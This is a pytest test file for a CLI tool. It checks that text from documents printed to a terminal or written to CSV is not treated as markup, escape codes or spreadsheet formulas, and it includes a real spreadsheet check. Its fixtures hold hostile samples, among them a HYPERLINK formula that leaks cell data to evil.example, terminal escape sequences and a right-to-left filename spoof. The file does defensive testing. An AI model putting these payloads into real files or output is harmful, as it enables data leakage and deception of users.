"""Document text is never interpreted on the way out (issue 15): not as rich markup or terminal
control codes when printed, not as spreadsheet formulas in CSV; JSON keeps it exact.

The CSV checks open the files in a real spreadsheet engine, LibreOffice Calc headless
(``apt-get install -y libreoffice-calc-nogui``; ``make spreadsheet``); without it those tests
skip, except when ``CI`` or ``STRATGRAPH_REQUIRE_SPREADSHEET=1`` is set.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from stratgraph.cli.main import app
from stratgraph.graph.builder import DocumentGraphBuilder
from stratgraph.graph.csv_safe import safe_cell
from stratgraph.graph.embedded import EmbeddedStore
from stratgraph.graph.model import RelType

runner = CliRunner()

MARKUP = "Housing [/bold] and [link=https://evil.example]click[/link] [red]now"
ESCAPES = "Roads \x1b]0;pwned\x07 and \x1b[2J\x1b[H cleared \u009b31m \u202egnp.exe"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "+1+1 more homes",
    "-2+3 fewer schools",
    "@SUM(1,1) roads",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
]
DOCUMENT = "[/bold]council-plan.txt"


def hostile_graph(tmp_path: Path) -> Path:
    b = DocumentGraphBuilder(DOCUMENT)
    b.plan("Council Plan [bold]2024", 1, organisation="Wexbridge [/] Council")
    theme = b.theme(MARKUP, 3)
    other = b.theme(ESCAPES, 4)
    outcome = b.outcome("Decent homes [/link]", 5, theme=theme, level="theme")
    for i, name in enumerate(FORMULAS):
        b.action(name, 10 + i, theme=theme if i % 2 else other)
    b.link(RelType.SUPPORTS, b.action("Build homes", 30, theme=theme), outcome, 30)
    graph = tmp_path / "graph.json"
    EmbeddedStore(graph).write(b.graph)
    return graph


def _clean(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\u009b" not in output
    assert "\u202e" not in output


# -- the terminal --------------------------------------------------------------------------

@pytest.mark.parametrize("query", ["orphan-actions", "unsupported-outcomes", "coverage",
                                   "cross-theme-dependencies", "plan-evolution"])
def test_query_tables_show_markup_as_text_and_no_control_codes(tmp_path: Path, query: str) -> None:
    graph = hostile_graph(tmp_path)
    result = runner.invoke(app, ["query", query, "--graph", str(graph)], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    _clean(result.output)


def test_names_are_printed_as_written(tmp_path: Path) -> None:
    graph = hostile_graph(tmp_path)
    result = runner.invoke(app, ["query", "orphan-actions", "--graph", str(graph)],
                           env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output
    assert MARKUP in result.output  # [/bold] shown, [link=...] not obeyed
    assert "Council Plan [bold]2024" in result.output
    _clean(result.output)


def test_stats_build_viz_and_export_print_safely(tmp_path: Path) -> None:
    graph = hostile_graph(tmp_path)
    stats = runner.invoke(app, ["stats", "--graph", str(graph)], env={"COLUMNS": "200"})
    assert stats.exit_code == 0, stats.output
    assert DOCUMENT in stats.output
    _clean(stats.output)

    plans = tmp_path / "plans"
    plans.mkdir()
    # (A file name cannot hold "/", so no closing tag here; an opening one must show too.)
    (plans / "[red] \x1b[2J plan.md").write_text(
        "# Wexbridge Plan 2024\n\n## [link=https://evil.example]Housing[/link]\n\n"
        "Our priorities are:\n\n- Decent homes for everyone\n\nWe will build 500 homes by 2026.\n",
        encoding="utf-8")
    built = runner.invoke(app, ["build", str(plans), "--graph", str(tmp_path / "b.json")],
                          env={"COLUMNS": "200"})
    assert built.exit_code == 0, built.output
    assert "[red]" in built.output
    _clean(built.output)

    for command in (["viz", "-o", str(tmp_path / "p.html"), "--focus", ESCAPES],
                    ["export", "-f", "json", "-o", str(tmp_path / "e.json"), "--theme", MARKUP]):
        result = runner.invoke(app, [*command, "--graph", str(graph)])
        assert result.exit_code == 0, result.output
        _clean(result.output)


def test_errors_naming_document_text_print_safely(tmp_path: Path) -> None:
    graph = hostile_graph(tmp_path)
    result = runner.invoke(app, ["query", "orphan-actions", "-p", "theme=\x1b]0;x\x07[/bold]",
                                 "--graph", str(graph)])
    assert result.exit_code == 1
    assert "no theme named" in result.output
    _clean(result.output)


def test_json_keeps_the_text_exact(tmp_path: Path) -> None:
    graph = hostile_graph(tmp_path)
    result = runner.invoke(app, ["query", "orphan-actions", "-f", "json", "--graph", str(graph)])
    assert result.exit_code == 0
    _clean(result.output)  # escaped as \uXXXX, which JSON turns back into the same text
    rows = json.loads(result.output)
    assert {r["action"] for r in rows} >= set(FORMULAS)
    assert {r["theme"] for r in rows} >= {MARKUP, ESCAPES}
    out = tmp_path / "export.json"
    assert runner.invoke(app, ["export", "-f", "json", "-o", str(out), "--graph",
                               str(graph)]).exit_code == 0
    names = {n.get("name") for n in json.loads(out.read_text(encoding="utf-8"))["nodes"]}
    assert names >= {*FORMULAS, MARKUP, ESCAPES}


# -- CSV ------------------------------------------------------------------------------------

def test_safe_cell_follows_owasp() -> None:
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    for text in ("Housing", "", "2024-28", "'quoted", " =spaced"):
        assert safe_cell(text) == text


def _raw(path: Path) -> str:
    """The file's text with its line ends as written (read_text would turn a CR into LF)."""
    with path.open(encoding="utf-8", newline="") as fh:
        return fh.read()


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _exports(tmp_path: Path) -> dict[str, Path]:
    """Every CSV stratgraph writes for the hostile graph: query --format csv, export csv."""
    graph = hostile_graph(tmp_path)
    out: dict[str, Path] = {}
    for query in ("orphan-actions", "coverage"):
        result = runner.invoke(app, ["query", query, "-f", "csv", "--graph", str(graph)])
        assert result.exit_code == 0, result.output
        path = tmp_path / f"{query}.csv"
        path.write_text(result.output, encoding="utf-8", newline="")
        out[query] = path
    folder = tmp_path / "csv"
    result = runner.invoke(app, ["export", "-f", "csv", "-o", str(folder), "--graph", str(graph)])
    assert result.exit_code == 0, result.output
    out["nodes"] = folder / "nodes.csv"
    out["relationships"] = folder / "relationships.csv"
    return out


def test_every_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    exports = _exports(tmp_path)
    for name, path in exports.items():
        cells = _csv_cells(_raw(path))
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], name
    written = {"'" + f for f in FORMULAS}
    assert written <= set(_csv_cells(_raw(exports["orphan-actions"])))
    assert written <= set(_csv_cells(_raw(exports["nodes"])))


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        reason = "no LibreOffice (apt-get install -y libreoffice-calc-nogui, or make spreadsheet)"
        if os.environ.get("CI") or os.environ.get("STRATGRAPH_REQUIRE_SPREADSHEET") == "1":
            pytest.fail(f"the spreadsheet test must run here, but {reason}", pytrace=False)
        pytest.skip(reason)
    return found


def _open_in_calc(soffice: str, csv_file: Path, out: Path) -> str:
    """``csv_file`` as LibreOffice Calc reads it, saved as flat OpenDocument XML."""
    profile = out / "profile"
    done = subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "fods", "--outdir", str(out), str(csv_file)],
        capture_output=True, text=True, timeout=300,
    )
    converted = out / (csv_file.stem + ".fods")
    assert converted.is_file(), done.stdout + done.stderr
    return converted.read_text(encoding="utf-8")


def test_a_real_spreadsheet_evaluates_no_formula(tmp_path: Path) -> None:
    soffice = _soffice()
    exports = _exports(tmp_path)
    # The engine does evaluate a formula written plainly: the check can fail.
    control = tmp_path / "control.csv"
    control.write_text('name\n"=HYPERLINK(""https://evil.example"",""x"")"\n', encoding="utf-8")
    assert "table:formula=" in _open_in_calc(soffice, control, tmp_path / "control")
    for name, path in exports.items():
        sheet = _open_in_calc(soffice, path, tmp_path / name)
        assert "table:formula=" not in sheet, name
        assert "evil.example" in sheet or name in ("coverage", "relationships")

